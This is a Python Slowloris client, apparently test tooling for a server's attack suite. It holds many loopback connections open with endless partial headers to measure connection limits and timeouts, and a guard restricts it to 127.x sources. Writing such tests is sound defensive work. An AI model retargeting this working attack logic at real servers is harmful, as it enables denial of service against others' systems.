#!/usr/bin/env python3
"""Slowloris client for the attack suite and bench/load.sh (loopback only).

Opens CONNECTIONS connections from SOURCE (a loopback address, default 127.0.0.2) to
127.0.0.1:PORT, sends a request line and one header, then one more header line a second and never
ends the headers, for SECONDS. With --reconnect, a connection the server closes is opened again
(the attack as it is run against a server); without, it is counted. Prints one line:
  held=N refused=N cut=N longest=S reconnects=N
held: connections still open 0.5 s after the first wave (those over a per-address limit are
closed at once: refused); cut: held connections the server closed later; longest: seconds from
the start of the run until the last cut.
usage: slowloris.py PORT CONNECTIONS SECONDS [--reconnect] [--source ADDR]
"""
import socket
import sys
import time

args = [a for a in sys.argv[1:] if not a.startswith("--")]
port, n, dur = int(args[0]), int(args[1]), float(args[2])
reconnect = "--reconnect" in sys.argv
source = "127.0.0.2"
if "--source" in sys.argv:
    source = sys.argv[sys.argv.index("--source") + 1]
if not source.startswith("127."):
    sys.exit("slowloris.py: loopback sources only")


def connect():
    s = socket.socket()
    s.settimeout(2)
    try:
        s.bind((source, 0))
        s.connect(("127.0.0.1", port))
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        return s
    except OSError:
        s.close()
        return None


def gone(s):
    s.setblocking(False)
    try:
        return s.recv(1) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True
    finally:
        s.setblocking(True)


socks = [connect() for _ in range(n)]
refused = sum(1 for s in socks if s is None)
time.sleep(0.5)
held = []
for s in socks:
    if s is None:
        continue
    if gone(s):
        refused += 1
        s.close()
    else:
        held.append(s)
socks = held
nheld, cut, longest, reconnects = len(socks), 0, 0.0, 0
t0 = time.time()
while time.time() - t0 < dur:
    for i, s in enumerate(socks):
        if s is None:
            if reconnect:
                socks[i] = connect()
                reconnects += 1
            continue
        try:
            s.sendall(b"X-Slow: 1\r\n")
            if gone(s):
                raise OSError
        except OSError:
            s.close()
            socks[i] = None
            cut += 1
            longest = max(longest, time.time() - t0)
    time.sleep(1)
for s in socks:
    if s is not None:
        s.close()
print(f"held={nheld} refused={refused} cut={cut} longest={longest:.1f} reconnects={reconnects}")
